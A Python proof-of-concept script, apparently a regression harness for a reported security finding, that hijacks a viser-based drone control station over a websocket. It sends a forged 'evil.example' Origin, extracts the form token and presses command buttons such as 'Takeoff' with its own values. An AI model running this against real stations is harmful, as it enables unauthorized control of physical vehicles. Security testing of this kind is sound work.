"""The browser-station attack of issue 34 (finding 1), as a script: a plain websocket client that
speaks viser's protocol, sends a foreign `Origin`, reads the per-tab form token out of the page
script the station sends, and presses a button with form values of its own.

    result = attack("ws://127.0.0.1:8080/", "Takeoff", {"Targets": "1,2", "Takeoff alt (m)": "4"})

`result.refused` says whether the handshake was refused (and with what HTTP status);
`result.frames` how many viser frames came back; `result.token` the form token it read;
`result.pressed` whether it answered the station's form read (the command then goes out).
"""

from __future__ import annotations

import json
import re
import ssl
import time
from dataclasses import dataclass

import msgspec
import viser
import websockets.exceptions
import zstandard
from viser import _messages as vm
from websockets.sync.client import connect

_TOKEN_RE = re.compile(r'token: "([0-9a-f]+)"')


@dataclass
class AttackResult:
    refused: bool = False
    status: int = 0
    """HTTP status of a refused handshake (0: it opened)."""
    frames: int = 0
    token: str = ""
    pressed: int = 0
    error: str = ""


def _messages(frame: bytes) -> list[dict]:
    size, comp = int.from_bytes(frame[:8], "little"), int.from_bytes(frame[8:16], "little")
    inner = zstandard.ZstdDecompressor().decompress(frame[16 : 16 + comp], max_output_size=size)
    return list(msgspec.msgpack.decode(inner)["messages"])


def _send(ws, msg: vm.Message) -> None:
    ws.send(msgspec.msgpack.encode(msg.as_serializable_dict()))


def attack(
    uri: str,
    presses: list[tuple[str, dict[str, str]]],
    *,
    origin: str = "http://evil.example",
    cookie: str | None = None,
    timeout_s: float = 20.0,
    tls: ssl.SSLContext | None = None,
) -> AttackResult:
    """Connect with `origin` (and `cookie`, if any), read the form token, press each
    (button, form values) in turn and answer the station's form read for it. Never raises for
    a refusal; `pressed` counts the presses whose form read was answered."""
    out = AttackResult()
    headers = {"Cookie": cookie} if cookie else None
    try:
        ws = connect(
            uri,
            origin=origin,  # type: ignore[arg-type]
            subprotocols=[f"viser-v{viser.__version__}"],  # type: ignore[list-item]
            additional_headers=headers,
            open_timeout=timeout_s,
            max_size=None,
            ssl=tls,
        )
    except websockets.exceptions.InvalidStatus as exc:
        out.refused, out.status = True, exc.response.status_code
        return out
    except (OSError, websockets.exceptions.InvalidHandshake) as exc:
        out.refused, out.error = True, f"{type(exc).__name__}: {exc}"
        return out
    with ws:
        # viser opens a tab (and the station sends its panel) at the first camera message.
        _send(
            ws,
            vm.ViewerCameraMessage(
                wxyz=(1.0, 0.0, 0.0, 0.0),
                position=(0.0, 0.0, 10.0),
                fov=1.0,
                near=0.01,
                far=1000.0,
                image_height=600,
                image_width=800,
                look_at=(0.0, 0.0, 0.0),
                up_direction=(0.0, 0.0, 1.0),
            ),
        )
        buttons: dict[str, str] = {}
        deadline, clicked_at = time.monotonic() + timeout_s, 0.0
        todo = list(presses)
        while (todo or not out.token) and time.monotonic() < deadline:
            try:
                raw = ws.recv(timeout=0.2)
            except TimeoutError:
                raw = None
            except websockets.exceptions.ConnectionClosed as exc:
                out.error = type(exc).__name__
                break
            if isinstance(raw, bytes):
                out.frames += 1
                for m in _messages(raw):
                    kind = m.get("type")
                    if kind == "RunJavascriptMessage" and (t := _TOKEN_RE.search(m["source"])):
                        out.token = t.group(1)
                    elif kind == "GuiButtonMessage":
                        buttons[m["props"].get("label")] = m["uuid"]
                    elif kind == "LocalStorageGetItemRequestMessage" and out.token and clicked_at:
                        out.pressed += 1
                        record = {
                            "token": out.token,
                            "seq": out.pressed,
                            "button": todo[0][0],
                            "values": todo[0][1],
                        }
                        _send(
                            ws,
                            vm.LocalStorageGetItemResponseMessage(
                                value=json.dumps(record), error=None, request_uuid=m["request_uuid"]
                            ),
                        )
                        todo.pop(0)
                        clicked_at = 0.0
            # Press (again, if the station did not ask for the form within a second: a click
            # during the tab's first replay can be lost).
            if todo and out.token and todo[0][0] in buttons and time.monotonic() - clicked_at > 1:
                clicked_at = time.monotonic()
                _send(ws, vm.GuiUpdateMessage(uuid=buttons[todo[0][0]], updates={"value": True}))
        time.sleep(0.5)  # let the last answer reach the station before the socket closes
    return out
